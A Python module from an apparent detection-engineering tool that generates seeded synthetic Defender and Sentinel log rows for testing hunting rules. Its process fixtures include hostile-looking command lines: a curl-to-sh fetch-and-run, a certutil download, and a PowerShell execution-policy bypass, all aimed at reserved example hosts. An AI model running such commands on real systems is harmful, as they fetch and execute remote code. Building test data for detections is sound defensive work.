"""``dac fixtures``: synthetic rows for any table of the catalog.

Each column gets a generator chosen by its name and type, so the rows look like
the real thing: UPNs and e-mail addresses for account columns, IPv4 (some IPv6)
addresses for IP columns, URLs, GUIDs, device names, hashes, command lines,
datetimes within the day before the clock, and for the columns whose values are
an enumeration (``ActionType``, ``ThreatTypes``, ``DeliveryAction`` ...) values
the table really carries (see :data:`TABLE_FACTS`). Columns of one row agree
with each other where that is cheap: one user, one device, one process and its
parent per row.

Output is seeded and reproducible: the same table, platform, seed, clock and row
count give the same bytes. Rows are produced one at a time and written as they
come, so millions of rows stream in constant memory.

Every name, domain and address is reserved for documentation or examples:
contoso/fabrikam (Microsoft's example companies), ``*.example`` / example.com
(RFC 2606), 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 (RFC 5737),
2001:db8::/32 (RFC 3849) and private ranges (RFC 1918).
"""

from __future__ import annotations

import io
import json
import random
import re
import sys
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import IO, Any

from dac import catalog
from dac.errors import DacError, Location, did_you_mean
from dac.files import output_file, replaced_file
from dac.output.escape import printable
from dac.testing.clock import DEFAULT_NOW

FORMATS = ("yaml", "json", "jsonl")

# --- facts: values the tables really use --------------------------------------------
#
# Sources. The learn.microsoft.com pages of Microsoft's advanced hunting schema reference
# (https://learn.microsoft.com/defender-xdr/advanced-hunting-<table>-table) say that a table's
# ActionType values are listed in the built-in (in-portal) schema reference of Defender XDR;
# the ActionType lists below are that reference's, as also quoted in Microsoft's blog post
# introducing UrlClickEvents and in public hunting queries. From the pages themselves:
# UrlClickEvents Workload (Email, Office, Teams) and ThreatTypes verdicts (phish, malware and
# other threats); EmailEvents DeliveryAction (Delivered, Junked, Blocked, Replaced),
# DeliveryLocation, EmailDirection and EmailAction; DeviceNetworkEvents LocalIPType/RemoteIPType
# (Public, Private, Reserved, Loopback, Teredo, FourToSixMapping, Broadcast).
# SigninLogs ResultType: Microsoft Entra authentication error codes
# (https://learn.microsoft.com/entra/identity-platform/reference-error-codes); "0" is success.

_THREAT_TYPES = ("", "", "", "Phish", "Malware", "Spam", "Phish,Malware", "Phish,Spam", "Malware,Phish")

TABLE_FACTS: dict[str, dict[str, tuple[str, ...]]] = {
    "UrlClickEvents": {
        "ActionType": ("ClickAllowed", "ClickBlocked", "ClickBlockedByTenantPolicy", "UrlScanInProgress", "UrlErrorPage"),
        "ThreatTypes": _THREAT_TYPES,
        "Workload": ("Email", "Office", "Teams"),
        "DetectionMethods": ("", "", "URL detonation", "URL detonation reputation", "URL malicious reputation"),
    },
    "EmailEvents": {
        "DeliveryAction": ("Delivered", "Junked", "Blocked", "Replaced"),
        "LatestDeliveryAction": ("Delivered", "Junked", "Blocked", "Replaced", "Moved to quarantine"),
        "DeliveryLocation": ("Inbox/folder", "Junk folder", "Quarantine", "Failed", "Dropped", "Deleted items",
                             "On-premises/external"),
        "LatestDeliveryLocation": ("Inbox/folder", "Junk folder", "Quarantine", "Deleted items"),
        "EmailDirection": ("Inbound", "Outbound", "Intra-org"),
        "ThreatTypes": _THREAT_TYPES,
        "EmailAction": ("No action taken", "Move message to junk mail folder", "Send to quarantine",
                        "Add X-header", "Modify subject"),
        "EmailLanguage": ("en", "de", "fr", "es", "ja"),
        "ConfidenceLevel": ('{"Phish":"High"}', '{"Spam":"Normal"}', '{"Phish":"Low"}', ""),
    },
    "DeviceProcessEvents": {
        "ActionType": ("ProcessCreated",),
    },
    "DeviceNetworkEvents": {
        "ActionType": ("ConnectionSuccess", "ConnectionFailed", "ConnectionRequest", "ConnectionAttempt",
                       "ConnectionFound", "ConnectionAcknowledged", "InboundConnectionAccepted",
                       "ListeningConnectionCreated", "DnsConnectionInspected", "HttpConnectionInspected",
                       "SslConnectionInspected", "NetworkSignatureInspected"),
        "Protocol": ("Tcp", "Udp", "TcpV4", "TcpV6", "UdpV4"),
    },
    "DeviceFileEvents": {
        "ActionType": ("FileCreated", "FileModified", "FileDeleted", "FileRenamed"),
    },
    "DeviceLogonEvents": {
        "ActionType": ("LogonSuccess", "LogonFailed", "LogonAttempted"),
        "LogonType": ("Interactive", "Network", "RemoteInteractive", "Batch", "Service", "Unlock"),
    },
    "DeviceRegistryEvents": {
        "ActionType": ("RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted", "RegistryKeyDeleted",
                       "RegistryKeyRenamed"),
    },
    "SigninLogs": {
        "ResultType": ("0", "0", "0", "50126", "50074", "50140", "53003", "50053"),
        "OperationName": ("Sign-in activity",),
        "Category": ("SignInLogs",),
        "ClientAppUsed": ("Browser", "Mobile Apps and Desktop clients", "Exchange ActiveSync", "IMAP4"),
        "AppDisplayName": ("Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "OfficeHome",
                           "Microsoft Authentication Broker"),
        "UserType": ("Member", "Guest"),
        "ConditionalAccessStatus": ("success", "failure", "notApplied"),
        "AuthenticationRequirement": ("singleFactorAuthentication", "multiFactorAuthentication"),
        "RiskLevelDuringSignIn": ("none", "none", "low", "medium", "high"),
    },
}

# Enumerations that mean the same in every table that has the column.
COLUMN_FACTS: dict[str, tuple[str, ...]] = {
    "LocalIPType": ("Private", "Private", "Public", "Loopback", "FourToSixMapping"),
    "RemoteIPType": ("Public", "Public", "Private", "Reserved", "Loopback", "Teredo", "Broadcast"),
    "ProcessIntegrityLevel": ("Low", "Medium", "High", "System"),
    "InitiatingProcessIntegrityLevel": ("Low", "Medium", "High", "System"),
    "ProcessTokenElevation": ("TokenElevationTypeDefault", "TokenElevationTypeFull", "TokenElevationTypeLimited"),
    "InitiatingProcessTokenElevation": ("TokenElevationTypeDefault", "TokenElevationTypeFull",
                                        "TokenElevationTypeLimited"),
    "InitiatingProcessSignatureStatus": ("Valid", "Unsigned", "Invalid"),
    "InitiatingProcessSignerType": ("OsVendor", "Microsoft", "ThirdParty", "None"),
    "SourceSystem": ("Azure",),
    "_IsBillable": ("True",),
}


def table_values(table: str, column: str) -> tuple[str, ...] | None:
    """The values ``column`` of ``table`` takes in real data, if the module knows them."""
    return TABLE_FACTS.get(table, {}).get(column) or COLUMN_FACTS.get(column)


# --- pools ------------------------------------------------------------------------------

_FIRST = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj",
          "olivia", "peggy", "rupert", "sybil", "trent", "victor", "wendy", "yusuf")
_LAST = ("adams", "baker", "chen", "diaz", "evans", "fischer", "garcia", "hughes", "ito", "jones", "kumar", "lopez")
_TENANT_DOMAINS = ("contoso.com", "fabrikam.com")
_EXTERNAL_DOMAINS = ("login.contoso-secure.example", "files.example.net", "cdn.example.org", "example.com",
                     "docs.fabrikam.example", "sharepoint-contoso.example")
_URL_PATHS = ("/", "/login", "/reset", "/invoice.pdf", "/s/aB3dE9", "/oauth2/authorize", "/download/setup.exe",
              "/docs/q3-report.xlsx")
_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36 Edg/124.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "python-requests/2.31.0",
)
# (file name, folder, command line, company, product)
_PROCESSES = (
    ("cmd.exe", "C:\\Windows\\System32", "cmd.exe /c whoami /all", "Microsoft Corporation", "Microsoft Windows"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Temp\\run.ps1", "Microsoft Corporation",
     "Microsoft Windows"),
    ("explorer.exe", "C:\\Windows", "C:\\Windows\\Explorer.EXE", "Microsoft Corporation", "Microsoft Windows"),
    ("svchost.exe", "C:\\Windows\\System32", "svchost.exe -k netsvcs -p", "Microsoft Corporation",
     "Microsoft Windows"),
    ("rundll32.exe", "C:\\Windows\\System32", "rundll32.exe shell32.dll,Control_RunDLL", "Microsoft Corporation",
     "Microsoft Windows"),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", "\"msedge.exe\" --single-argument",
     "Microsoft Corporation", "Microsoft Edge"),
    ("outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "\"OUTLOOK.EXE\"",
     "Microsoft Corporation", "Microsoft Outlook"),
    ("certutil.exe", "C:\\Windows\\System32", "certutil.exe -urlcache -f http://files.example.net/a.txt a.txt",
     "Microsoft Corporation", "Microsoft Windows"),
    ("bash", "/usr/bin", "bash -c 'curl -s https://cdn.example.org/x.sh | sh'", "", ""),
)
_SUBJECTS = ("Invoice overdue", "Your password expires today", "Q3 report", "Meeting notes", "Shared document",
             "Action required: verify your account", "Lunch on Friday?")
_PORTS = (443, 443, 443, 80, 53, 445, 3389, 22, 135, 8080, 5985)
_COUNTRIES = ("US", "GB", "DE", "NL", "JP", "IN", "BR")
_CITIES = ("Seattle", "London", "Berlin", "Amsterdam", "Tokyo", "Pune", "Sao Paulo")

_USERS = tuple(
    (first, last, f"{first}.{last}@{_TENANT_DOMAINS[(i + j) % 2]}")
    for i, first in enumerate(_FIRST) for j, last in enumerate(_LAST[:5])
)
# people outside the tenant who send mail to it
_EXTERNAL_SENDERS = (
    ("billing", "team", "billing@invoices.example"), ("it", "support", "it-support@contoso-helpdesk.example"),
    ("newsletter", "", "news@example.com"), ("sam", "lee", "sam.lee@fabrikam.example"),
)
_DEVICES = tuple(f"{prefix}-{n:04d}" for prefix in ("wks", "lap", "srv") for n in (17, 42, 101, 256, 311, 1024, 2048))


class _Row:
    """What the columns of one row share: who, where, which process, when."""

    __slots__ = ("device", "grandparent", "parent", "peer", "proc", "time", "user")

    def __init__(self, rng: random.Random, now: datetime) -> None:
        r = rng.random
        self.user = _USERS[int(r() * len(_USERS))]
        self.peer = _EXTERNAL_SENDERS[int(r() * len(_EXTERNAL_SENDERS))]
        self.device = _DEVICES[int(r() * len(_DEVICES))]
        self.proc = _PROCESSES[int(r() * len(_PROCESSES))]
        self.parent = _PROCESSES[int(r() * len(_PROCESSES))]
        self.grandparent = _PROCESSES[int(r() * len(_PROCESSES))]
        self.time = now - timedelta(milliseconds=int(r() * 86_400_000))


Generator = Callable[[random.Random, _Row], Any]


# random.Random.random() is C code; randrange() and choice() are Python and cost
# about ten times as much, which matters at millions of values.
def _below(rng: random.Random, n: int) -> int:
    return int(rng.random() * n)


def _between(rng: random.Random, low: int, high: int) -> int:
    return low + int(rng.random() * (high - low))


def _pick(rng: random.Random, values: tuple) -> Any:
    return values[int(rng.random() * len(values))]


def _iso(value: datetime) -> str:
    return value.isoformat(timespec="milliseconds") + "Z"


def _guid(rng: random.Random) -> str:
    """A random version-4 GUID (what uuid.UUID(int=..., version=4) gives, built faster)."""
    h = format(rng.getrandbits(128), "032x")
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) & 3]}{h[17:20]}-{h[20:]}"


def _hex(bits: int) -> Generator:
    width = bits // 4
    return lambda rng, row: format(rng.getrandbits(bits), f"0{width}x")


def _ipv4(rng: random.Random) -> str:
    kind = _below(rng, 5)
    if kind == 0:
        return f"10.{_below(rng, 256)}.{_below(rng, 256)}.{_between(rng, 1, 255)}"
    if kind == 1:
        return f"192.168.{_below(rng, 256)}.{_between(rng, 1, 255)}"
    return f"{('192.0.2', '198.51.100', '203.0.113')[kind - 2]}.{_between(rng, 1, 255)}"


def _ipv6(rng: random.Random) -> str:
    return "2001:db8:" + ":".join(format(rng.getrandbits(16), "x") for _ in range(3)) + "::" + format(rng.getrandbits(16), "x")


def _ip(rng: random.Random, row: _Row) -> str:
    return _ipv6(rng) if rng.random() < 0.1 else _ipv4(rng)


def _url(rng: random.Random, row: _Row) -> str:
    return f"https://{_pick(rng, _EXTERNAL_DOMAINS)}{_pick(rng, _URL_PATHS)}"


def _choice(values: tuple) -> Generator:
    return lambda rng, row: values[_below(rng, len(values))]


def _const(value: Any) -> Generator:
    return lambda rng, row: value


def _process_of(name: str) -> Callable[[_Row], tuple]:
    if name.startswith("InitiatingProcessParent"):
        return lambda row: row.grandparent
    if name.startswith("InitiatingProcess"):
        return lambda row: row.parent
    return lambda row: row.proc


def _string_generator(table: str, name: str, tenant: str) -> Generator:
    facts = table_values(table, name)
    if facts:
        return _choice(facts)
    lower = name.lower()
    if name == "Type":
        return _const(table)
    if lower.endswith("tenantid"):
        return _const(tenant)
    if name.endswith("IPType"):
        return _choice(("Public", "Private"))
    if "IPv6" in name:
        return lambda rng, row: _ipv6(rng)
    if "IPv4" in name:
        return lambda rng, row: _ipv4(rng)
    if re.search(r"(IP|Ip)(Address)?(FromResourceProvider)?$", name) or name.startswith("IP") or name.endswith("IP"):
        return _ip
    if lower.endswith("macaddress"):
        return lambda rng, row: "-".join(format(rng.getrandbits(8), "02X") for _ in range(6))
    if "url" in lower:
        return _url
    if lower.startswith("sender") and lower.endswith(("address", "domain", "displayname")):
        if lower.endswith("address"):
            return lambda rng, row: row.peer[2]
        if lower.endswith("domain"):
            return lambda rng, row: row.peer[2].split("@")[1]
        return lambda rng, row: f"{row.peer[0].title()} {row.peer[1].title()}".strip()
    if lower.startswith("serviceprincipal") and lower.endswith("name"):
        return _choice(("Microsoft Graph", "Office 365 Exchange Online", "contoso-automation"))
    if lower.endswith(("upn", "principalname", "emailaddress", "fromaddress", "primaryaddress", "signinname")) \
            or lower in ("email", "mail", "identity", "signinidentifier"):
        return lambda rng, row: row.user[2]
    if lower.endswith("displayname") and ("user" in lower or "sender" in lower or lower == "displayname"):
        return lambda rng, row: f"{row.user[0].title()} {row.user[1].title()}"
    if lower.endswith(("accountname", "username")):
        return lambda rng, row: row.user[0] + row.user[1][0]
    if lower.endswith("accountdomain"):
        return lambda rng, row: row.user[2].split("@")[1].split(".")[0]
    if lower.endswith("domain"):
        return lambda rng, row: row.user[2].split("@")[1]
    if lower.endswith("sid"):
        return lambda rng, row: f"S-1-5-21-1004336348-1177238915-682003330-{1000 + _USERS.index(row.user)}"
    if lower.endswith(("devicename", "computer", "hostname")):
        return lambda rng, row: f"{row.device}.{row.user[2].split('@')[1]}"
    if lower == "deviceid":
        return _hex(160)  # Defender device ids are 40 hex digits
    if lower.endswith("sha256"):
        return _hex(256)
    if lower.endswith("sha1"):
        return _hex(160)
    if lower.endswith("md5"):
        return _hex(128)
    if lower.endswith("internetmessageid"):
        return lambda rng, row: f"<{_guid(rng)}@{row.user[2].split('@')[1]}>"
    if lower.endswith(("id", "guid")):
        return lambda rng, row: _guid(rng)
    if lower.endswith("filename"):
        pick = _process_of(name)
        return lambda rng, row: pick(row)[0]
    if lower.endswith("folderpath"):
        pick = _process_of(name)
        return lambda rng, row: pick(row)[1] + ("/" if pick(row)[1].startswith("/") else "\\") + pick(row)[0]
    if lower.endswith("commandline"):
        pick = _process_of(name)
        return lambda rng, row: pick(row)[2]
    if lower.endswith("companyname"):
        pick = _process_of(name)
        return lambda rng, row: pick(row)[3]
    if lower.endswith("productname"):
        pick = _process_of(name)
        return lambda rng, row: pick(row)[4]
    if lower.endswith(("originalfilename", "internalfilename")):
        pick = _process_of(name)
        return lambda rng, row: pick(row)[0]
    if lower == "useragent":
        return _choice(_USER_AGENTS)
    if lower == "subject":
        return _choice(_SUBJECTS)
    if lower in ("location", "country", "countryorregion"):
        return _choice(_COUNTRIES)
    if lower == "city":
        return _choice(_CITIES)
    if lower.endswith("version"):
        return lambda rng, row: f"{_between(rng, 1, 20)}.{_below(rng, 10)}.{_below(rng, 10000)}"
    token = re.sub(r"[^A-Za-z0-9]", "", name) or "value"
    return lambda rng, row: f"{token}-{_between(rng, 1, 100)}"


def _long_generator(name: str) -> Generator:
    lower = name.lower()
    if lower.endswith("port"):
        return lambda rng, row: _PORTS[_below(rng, len(_PORTS))] if rng.random() < 0.7 else _between(rng, 49152, 65536)
    if lower.endswith(("processid", "parentid")) or lower == "pid":
        return lambda rng, row: 4 * _between(rng, 1, 16384)
    if lower.endswith("size"):
        return lambda rng, row: _between(rng, 1024, 50_000_000)
    if lower.endswith("count"):
        return lambda rng, row: _between(rng, 0, 10)
    if lower == "bulkcomplaintlevel":
        return lambda rng, row: _between(rng, 0, 10)
    if lower.endswith(("ms", "milliseconds")):
        return lambda rng, row: _between(rng, 0, 5000)
    if lower.endswith("sessionid"):
        return lambda rng, row: _between(rng, 0, 8)
    return lambda rng, row: _between(rng, 0, 1_000_000)


def _dynamic_generator(name: str) -> Generator:
    lower = name.lower()
    if lower in ("to", "cc"):
        return lambda rng, row: [row.user[2]]
    if lower == "devicedetail":
        return lambda rng, row: {"deviceId": _guid(rng), "displayName": row.device,
                                 "operatingSystem": _pick(rng, ("Windows10", "MacOs", "Ios", "Android")),
                                 "browser": _pick(rng, ("Edge 124.0.0", "Chrome 124.0.0", "Safari 17.4"))}
    if lower == "locationdetails":
        places = tuple({"city": city, "countryOrRegion": country} for city, country in zip(_CITIES, _COUNTRIES))
        return lambda rng, row: dict(_pick(rng, places))
    if lower == "status":
        return lambda rng, row: {"errorCode": _pick(rng, (0, 0, 0, 50126, 50074))}
    return lambda rng, row: {"Source": _pick(rng, ("Sensor", "Cloud")), "Count": _between(rng, 1, 5)}


def column_generator(table: str, column: str, type_name: str, tenant: str, now: datetime) -> Generator:
    """The generator of one column's values: ``gen(rng, row_context) -> JSON-able value``."""
    if type_name == "string":
        return _string_generator(table, column, tenant)
    if type_name == "bool":
        return lambda rng, row: rng.random() < 0.25
    if type_name in ("int", "long"):
        return _long_generator(column)
    if type_name in ("real", "decimal"):
        if column == "_BilledSize":
            return lambda rng, row: float(_between(rng, 200, 6000))
        return lambda rng, row: round(rng.uniform(0, 100), 3)
    if type_name == "datetime":
        if column in ("Timestamp", "TimeGenerated"):
            return lambda rng, row: _iso(row.time)
        start = now - timedelta(days=1)
        # another moment of the same day, no later than the event itself
        return lambda rng, row: _iso(start + (row.time - start) * rng.random())
    if type_name == "timespan":
        return lambda rng, row: str(timedelta(seconds=_between(rng, 0, 3600)))
    if type_name == "guid":
        return lambda rng, row: _guid(rng)
    return _dynamic_generator(column)


def resolve_table(table: str, platform: str | None) -> tuple[str, tuple[tuple[str, str], ...]]:
    """The platform key and columns of ``table``; without a platform Defender is tried first."""
    candidates = [catalog.normalise_platform(platform)] if platform else list(catalog.PLATFORMS)
    for key in candidates:
        columns = catalog.table_columns(key, table)
        if columns is not None:
            return key, columns
    known = sorted({t for key in candidates for t in catalog.known_tables(key)})
    where = " on " + catalog.PLATFORMS[candidates[0]] if platform else ""
    raise DacError(f"unknown table '{table}'{where}{did_you_mean(table, known, cutoff=0.6)}")


def iter_rows(table: str, platform: str | None = None, rows: int = 10, seed: int = 0,
              now: datetime | None = None) -> Iterator[dict[str, Any]]:
    """``rows`` synthetic rows (dicts of JSON values, every column set), produced one at a time.

    The table and arguments are checked at once, before the first row is asked for.
    """
    if rows < 0:
        raise DacError("the number of rows cannot be negative")
    _, columns = resolve_table(table, platform)
    return _generate(table, columns, rows, seed, now or DEFAULT_NOW)


def _generate(table: str, columns: tuple[tuple[str, str], ...], rows: int, seed: int,
              now: datetime) -> Iterator[dict[str, Any]]:
    rng = random.Random(seed)
    tenant = _guid(rng)
    generators = [(name, column_generator(table, name, kind, tenant, now)) for name, kind in columns]
    for _ in range(rows):
        row = _Row(rng, now)
        yield {name: generate(rng, row) for name, generate in generators}


# --- writing ----------------------------------------------------------------------------


def _yaml_row(row: dict[str, Any]) -> str:
    import yaml

    dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
    return yaml.dump(row, Dumper=dumper, default_flow_style=True, width=1 << 30, sort_keys=False,
                     allow_unicode=True).strip()


def write_rows(stream: IO[str], rows: Iterator[dict[str, Any]], fmt: str, table: str) -> int:
    """Write ``rows`` as they come; return how many were written.

    ``yaml`` is ``Table:`` with one flow mapping a row, ready to paste under a test
    case's ``tables:``; ``json`` is one array; ``jsonl`` is one object a line.
    """
    if fmt not in FORMATS:
        raise DacError(f"unknown format '{fmt}' (expected one of: {', '.join(FORMATS)})")
    count = 0
    if fmt == "jsonl":
        for row in rows:
            stream.write(json.dumps(row, ensure_ascii=False, separators=(",", ":")) + "\n")
            count += 1
    elif fmt == "json":
        stream.write("[")
        for row in rows:
            stream.write(("," if count else "") + "\n  " + json.dumps(row, ensure_ascii=False))
            count += 1
        stream.write("\n]\n" if count else "]\n")
    else:
        for row in rows:
            stream.write((f"{table}:\n" if not count else "") + "  - " + _yaml_row(row) + "\n")
            count += 1
        if not count:
            stream.write(f"{table}: []\n")
    return count


def write_fixtures(table: str, platform: str | None = None, rows: int = 10, seed: int = 0,
                   now: datetime | None = None, fmt: str = "yaml", out: str | Path | None = None,
                   stream: IO[str] | None = None) -> int:
    """Generate and write rows to ``out`` (atomically), or to ``stream`` (default stdout)."""
    if fmt not in FORMATS:
        raise DacError(f"unknown format '{fmt}' (expected one of: {', '.join(FORMATS)})")
    source = iter_rows(table, platform, rows, seed, now)
    if out is None:
        return write_rows(stream or sys.stdout, source, fmt, table)
    target = output_file(out)  # not a folder, / or a device
    with replaced_file(target, "cannot write the fixtures", Location(str(out))) as raw:
        file = io.TextIOWrapper(raw, encoding="utf-8", newline="\n")
        count = write_rows(file, source, fmt, table)
        file.flush()
        file.detach()  # the raw stream is closed by replaced_file
    return count


__all__ = ["COLUMN_FACTS", "FORMATS", "TABLE_FACTS", "column_generator", "iter_rows", "resolve_table",
           "table_values", "write_fixtures", "write_rows"]


# --- command line -----------------------------------------------------------------------


def _command(args) -> int:
    from dac.testing.clock import clock_option

    now = clock_option(args.now)
    if args.rule:
        if args.table:
            raise DacError("give a TABLE or --for RULE, not both")
        return _generated(args.rule, args.out, now, args.seed)
    if not args.table:
        raise DacError("name a TABLE for synthetic rows, or --for RULE to generate a rule's test cases")
    count = write_fixtures(args.table, args.platform, args.rows, args.seed, now, args.rows_format, args.out)
    if args.out:
        print(printable(f"wrote {count} row(s) of {args.table} to {args.out}"), file=sys.stderr)
    return 0


def _generated(rule_path: str, out: str | None, now: datetime | None, seed: int) -> int:
    """``--for RULE``: write its generated test file beside it (or to ``out``), never over an existing one."""
    from dac.generate import generate_tests
    from dac.rules.model import TEST_SUFFIXES, load_rule
    from dac.scaffold import write_new

    rule = load_rule(rule_path)
    stem = Path(rule_path).name.rsplit(".", 1)[0]
    targets = [Path(out)] if out else [Path(rule_path).with_name(stem + suffix) for suffix in TEST_SUFFIXES]
    for target in targets:
        if target.exists():
            raise DacError("file exists; not overwritten (move it away or give --out)", Location(str(target)))
    generated = generate_tests(rule, now, seed)
    write_new(output_file(targets[0]), generated.text)
    for note in generated.notes:
        print(printable(f"{note}"), file=sys.stderr)
    print(printable(f"wrote {targets[0]}: a positive case ({generated.positive_rows} row(s) reported) and "
                    f"{generated.near_misses} near miss(es) for {generated.atoms} predicate(s) solved"), file=sys.stderr)
    return 0


def register(sub) -> None:
    """Add ``dac fixtures`` to the command line's subparsers."""
    command = sub.add_parser("fixtures", help="synthetic, seeded rows for a catalog table (yaml, json or jsonl), "
                                              "or --for RULE: a test file generated from the rule's filters")
    command.add_argument("table", metavar="TABLE", nargs="?",
                         help="a table of the platform's catalog, e.g. UrlClickEvents")
    command.add_argument("--for", dest="rule", metavar="RULE",
                         help="write RULE's test file (x.tests.yaml beside it, or --out): a positive case and a "
                              "near miss per predicate of its filters, expectations computed; never overwrites")
    command.add_argument("--platform", help="Defender or Sentinel (default: Defender if it has the table)")
    command.add_argument("--rows", type=int, default=10, help="how many rows (default 10; streams any number)")
    command.add_argument("--seed", type=int, default=0, help="random seed: the same seed gives the same bytes")
    command.add_argument("--now", help="the clock the datetimes lie before, ISO 8601 (default 2025-01-01T00:00:00Z)")
    # dest differs from "format": the command line reads args.format as its text/json report switch
    command.add_argument("--format", dest="rows_format", choices=FORMATS, default="yaml",
                         help="yaml (paste under a test case's tables:), json or jsonl (default yaml)")
    command.add_argument("--out", help="file to write (atomically); default standard output (with --for: "
                                       "the rule's x.tests.yaml)")
    command.set_defaults(func=_command)
